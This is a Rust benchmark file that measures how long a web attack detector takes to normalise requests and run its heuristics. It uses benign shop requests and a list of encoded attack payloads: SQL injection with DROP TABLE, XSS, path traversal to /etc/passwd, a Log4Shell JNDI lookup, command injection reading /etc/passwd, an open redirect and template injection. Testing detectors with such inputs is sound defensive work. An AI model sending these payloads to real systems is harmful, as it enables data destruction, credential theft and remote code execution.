//! Cost of normalisation + heuristics per request, the part of the web pipeline in front of the
//! featuriser. Budget: about 1 µs for a typical 150-byte request (the whole pipeline must stay
//! under 4 µs per request on one core).
//!
//! Run: `cargo bench -p goshawk-web --bench normalize`. Criterion reports time per batch and
//! requests/s (throughput in elements); divide the batch time by the batch size for ns/request.

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};

use goshawk_web::heuristics::{heuristics_into, matched_patterns, N_HEURISTICS};
use goshawk_web::normalize::{Normalized, Normalizer};

/// Request texts as the featuriser builds them (target, then `&` or `?` and the body): CSIC 2010
/// benign requests and encoded attacks, 40–330 bytes, about 150 on average.
const BENIGN: &[&str] = &[
    "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100&cantidad=55&B1=A%F1adir+al+carrito",
    "/tienda1/publico/autenticar.jsp?modo=entrar&login=magrath&pwd=1an0re%E15354&remember=off&B1=Entrar",
    "/tienda1/publico/registro.jsp?modo=registro&login=cen&password=40a5E&nombre=Nurit&apellidos=Ferrandez+Caba%F1as&email=tarpey%40bwds.ne&dni=17621392B&direccion=Calle+Clavel+30+11%3FB&ciudad=Tronch%F3n&cp=17463&provincia=C%E1ceres&ntc=1527409541807001&B1=Registrar",
    "/tienda1/publico/pagar.jsp?modo=insertar&precio=183&B1=Pasar+por+caja",
    "/tienda1/miembros/imagenes/castro.jpg",
    "/tienda1/publico/vaciar.jsp?B2=Vaciar+carrito",
    "/tienda1/miembros/editar.jsp?modo=registro&login=thyagara&password=fUeRTe&nombre=Sol&apellidos=Gorgone+Oteo&email=tissier%40b-sign.cg&dni=03028605B&direccion=Calle+Alboran+39%2C+&ciudad=Millanes&cp=49731&provincia=Tarragona&ntc=4096797311989091&B1=Registrar",
    "/api/v1/orders/12345/items?limit=20&offset=40&sort=-created_at&q=caf%C3%A9+con+leche",
];

const ATTACKS: &[&str] = &[
    "/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=%27%3B+DROP+TABLE+usuarios%3B+SELECT+*+FROM+datos+WHERE+nombre+LIKE+%27%25&B1=A%F1adir+al+carrito",
    "/tienda1/publico/registro.jsp?modo=registro%253CSCRIPT%253Ealert%2528%2522Paros%2522%2529%253B%253C%252FSCRIPT%253E&login=armand&password=prusiato&nombre=Samia&apellidos=Catalayud+Mirabet",
    "/tienda1/publico/autenticar.jsp?modo=entrar&login=modestin&pwd=es%27pec%27ia%2Fl&remember=off&B1=Entrar",
    "/download?file=..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd%00.jpg",
    "/api/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D&page=1&lang=en",
    "/ping?host=127.0.0.1%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd&count=3",
    "/item?id=1%20union%2F**%2Fselect%20username%2Cpassword%20from%20users--&sort=name",
    "/p?name=%26lt%3Bsvg%2Fonload%3Dalert%26%2340%3B1%26%2341%3B%26gt%3B&next=https://evil.example/&user={{config.__class__.__init__.__globals__}}",
];

fn bench(c: &mut Criterion) {
    let requests: Vec<&str> = BENIGN.iter().chain(ATTACKS).copied().collect();
    let bytes: usize = requests.iter().map(|r| r.len()).sum();
    eprintln!(
        "{} requests, mean {} bytes; time per batch / batch size = ns per request",
        requests.len(),
        bytes / requests.len()
    );
    let normalizer = Normalizer::default();
    let mut normalized = Normalized::default();
    let mut features = [0f32; N_HEURISTICS];
    // Build the automaton outside the measurement.
    heuristics_into("warm", "warm", &mut features);

    let mut group = c.benchmark_group("per_request");
    for (name, set) in [("benign", BENIGN), ("attack", ATTACKS)] {
        group.throughput(Throughput::Elements(set.len() as u64));
        group.bench_function(format!("normalize/{name}"), |b| {
            b.iter(|| {
                for r in set {
                    normalizer.normalize_into(black_box(r), &mut normalized);
                }
                black_box(&normalized.stats);
            })
        });
        group.bench_function(format!("normalize+heuristics/{name}"), |b| {
            b.iter(|| {
                for r in set {
                    normalizer.normalize_into(black_box(r), &mut normalized);
                    heuristics_into(&normalized.text, r, &mut features);
                    black_box(&features);
                }
            })
        });
    }
    group.throughput(Throughput::Elements(requests.len() as u64));
    group.bench_function("normalize+heuristics/mix", |b| {
        b.iter(|| {
            for r in &requests {
                normalizer.normalize_into(black_box(r), &mut normalized);
                heuristics_into(&normalized.text, r, &mut features);
                black_box(&features);
            }
        })
    });
    // Explanations are built only for alerts; measured to know what one costs.
    group.throughput(Throughput::Elements(ATTACKS.len() as u64));
    group.bench_function("matched_patterns/attack", |b| {
        let texts: Vec<String> = ATTACKS
            .iter()
            .map(|r| normalizer.normalize(r).text)
            .collect();
        b.iter(|| {
            for t in &texts {
                black_box(matched_patterns(t));
            }
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
